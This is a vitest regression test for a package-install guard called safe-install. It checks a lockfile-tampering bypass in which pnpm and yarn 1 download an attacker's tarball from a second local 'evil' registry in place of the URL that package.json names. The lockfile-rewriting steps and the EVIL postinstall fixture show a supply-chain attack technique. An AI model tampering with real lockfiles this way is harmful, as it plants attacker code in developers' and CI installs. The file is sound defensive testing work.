// Review of issue 14, bypass 2: package.json asks for one exotic source, the lockfile downloads another of the same
// kind. `"victim": "https://good.example/victim.tgz"` (a common shape: xlsx from cdn.sheetjs.com) with a lockfile that
// keeps the entry's key but points its download at another URL: npm refuses (arborist's dep-valid requires a remote
// dependency's `resolved` to be the URL package.json asks for), but pnpm (`resolution.tarball`) and yarn 1
// (`resolved`) install whatever the lockfile names, with the integrity the lockfile gives. The guard only compared
// the kinds (a URL spec may resolve to "a tarball") and allowed it as a direct tarball dependency.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestRegistry } from '../registry/server.js';
import { BIN, EVENT_LOGGER, TOOLS, run, tempDir, withTools } from '../integration/helpers.js';
import { attackProject, noStackTrace, type AttackProject, EVIL_LOGGER, postinstallVersion } from './attack.js';

const POLICY = { scripts: { allow: ['victim'] } };

let registry: TestRegistry;
let evil: TestRegistry;
let goodUrl: string;
let evilUrl: string;
let yarnCache: string;

beforeAll(async () => {
  registry = await TestRegistry.start();
  evil = await TestRegistry.start();
  const version = postinstallVersion;
  registry.addPackage({ name: 'victim', versions: [version(EVENT_LOGGER)] });
  evil.addPackage({ name: 'victim', versions: [version(EVIL_LOGGER)] });
  // The URL package.json asks for, and the attacker's, each a plain download path (not a registry layout).
  goodUrl = `${registry.url}gdl/-/victim.tgz`;
  registry.addRawPackument({ name: 'gdl', versions: { '1.0.0': { name: 'gdl', version: '1.0.0', dist: { tarball: goodUrl } } } }, { '1.0.0': registry.tarballOf('victim', '1.0.0') });
  evilUrl = `${evil.url}dl/-/victim.tgz`;
  evil.addRawPackument({ name: 'dl', versions: { '1.0.0': { name: 'dl', version: '1.0.0', dist: { tarball: evilUrl } } } }, { '1.0.0': evil.tarballOf('victim', '1.0.0') });
  yarnCache = tempDir('si-yarn-cache-');
});
afterAll(async () => {
  await registry.close();
  await evil.close();
});

const evilDownloads = () => evil.requests.filter((r) => r.path === '/dl/-/victim.tgz').length;

function expectStopped(p: AttackProject, res: { code: number; stdout: string; stderr: string }, before: number) {
  expect(res.code, res.stdout + res.stderr).toBe(1);
  expect(res.stdout).toMatch(/victim@.* +source-mismatch/);
  expect(res.stdout).toContain(`package.json asks for "${goodUrl}" but the lockfile resolves it to a remote tarball (${evilUrl})`);
  expect(noStackTrace(res.stdout + res.stderr)).toBe(true);
  expect(p.ran()).toEqual([]);
  expect(existsSync(join(p.dir, 'node_modules', 'victim'))).toBe(false);
  expect(evilDownloads()).toBe(before);
}

describe('pnpm 10: a tarball URL dependency whose lockfile resolution.tarball is another URL', () => {
  async function pnpmProject(swap: boolean) {
    const p = attackProject(registry, { dependencies: { victim: goodUrl } }, { CI: '1' });
    const env = withTools(p.env, { pnpm: 'pnpm' });
    writeFileSync(join(p.dir, '.npmrc'), `registry=${registry.url}\nstore-dir=${join(p.dir, '.store')}\ncache-dir=${join(p.dir, '.cache')}\n`);
    writeFileSync(join(p.dir, 'pnpm-workspace.yaml'), "onlyBuiltDependencies:\n  - 'victim'\n");
    const pnpm = (...args: string[]) => run('pnpm', args, { cwd: p.dir, env });
    const lock = await pnpm('install', '--lockfile-only');
    expect(lock.code, lock.stdout + lock.stderr).toBe(0);
    writeFileSync(join(p.dir, 'safe-install.policy.json'), JSON.stringify(POLICY));
    if (swap) {
      const file = join(p.dir, 'pnpm-lock.yaml');
      const before = readFileSync(file, 'utf8');
      const text = before.replace(/resolution: \{integrity: [^,}]+, tarball: [^}]+\}/, `resolution: {integrity: ${evil.integrityOf('victim', '1.0.0')}, tarball: ${evilUrl}}`);
      expect(text).not.toBe(before);
      writeFileSync(file, text);
    }
    return { ...p, env, pnpm };
  }

  it("plain pnpm install --frozen-lockfile installs the other URL's code; safe-install blocks it", async () => {
    const plain = await pnpmProject(true);
    const before = evilDownloads();
    const install = await plain.pnpm('install', '--frozen-lockfile');
    expect(install.code, install.stdout + install.stderr).toBe(0);
    // pnpm's onlyBuiltDependencies names do not match a URL dependency, so its script stays off; its code is in.
    expect(readFileSync(join(plain.dir, 'node_modules', 'victim', 'log.js'), 'utf8')).toBe(EVIL_LOGGER);
    expect(evilDownloads()).toBe(before + 1);

    const guarded = await pnpmProject(true);
    const b = evilDownloads();
    expectStopped(guarded, await run(process.execPath, [BIN], { cwd: guarded.dir, env: guarded.env }), b);
  });

  it('the URL package.json asks for is still a direct dependency, allowed', async () => {
    const p = await pnpmProject(false);
    const res = await run(process.execPath, [BIN], { cwd: p.dir, env: p.env });
    expect(res.code, res.stdout + res.stderr).toBe(0);
    expect(p.ran()).toEqual(['victim:postinstall']);
    expect(readFileSync(join(p.dir, 'node_modules', 'victim', 'log.js'), 'utf8')).toBe(EVENT_LOGGER);
  });
});

describe('yarn 1: a tarball URL dependency whose yarn.lock resolved is another URL', () => {
  async function yarnProject(swap: boolean) {
    const p = attackProject(registry, { license: 'MIT', dependencies: { victim: goodUrl } }, { YARN_CACHE_FOLDER: join(yarnCache, String(Math.random())) });
    const yarn = (...args: string[]) => run(process.execPath, [TOOLS.yarn1, ...args, '--non-interactive'], { cwd: p.dir, env: p.env });
    const lock = await yarn('install', '--ignore-scripts');
    expect(lock.code, lock.stderr).toBe(0);
    rmSync(join(p.dir, 'node_modules'), { recursive: true, force: true });
    writeFileSync(join(p.dir, 'safe-install.policy.json'), JSON.stringify(POLICY));
    if (swap) {
      const file = join(p.dir, 'yarn.lock');
      const before = readFileSync(file, 'utf8');
      const text = before.replace(/resolved "[^"]+"/, `resolved "${evilUrl}"`).replace(/integrity [^\n]+/, `integrity ${evil.integrityOf('victim', '1.0.0')}`);
      expect(text).not.toBe(before);
      writeFileSync(file, text);
    }
    return { ...p, yarn };
  }

  it('plain yarn install --frozen-lockfile downloads the other URL and runs its script; safe-install blocks it', async () => {
    const plain = await yarnProject(true);
    const before = evilDownloads();
    const install = await plain.yarn('install', '--frozen-lockfile');
    expect(install.code, install.stdout + install.stderr).toBe(0);
    expect(plain.ran()).toEqual(['EVIL victim:postinstall']);
    expect(evilDownloads()).toBe(before + 1);

    const guarded = await yarnProject(true);
    const b = evilDownloads();
    expectStopped(guarded, await run(process.execPath, [BIN], { cwd: guarded.dir, env: withTools(guarded.env, { yarn: 'yarn1' }) }), b);
  });

  it('the URL package.json asks for is still a direct dependency, allowed', async () => {
    const p = await yarnProject(false);
    const res = await run(process.execPath, [BIN], { cwd: p.dir, env: withTools(p.env, { yarn: 'yarn1' }) });
    expect(res.code, res.stdout + res.stderr).toBe(0);
    expect(p.ran()).toEqual(['victim:postinstall']);
  });
});
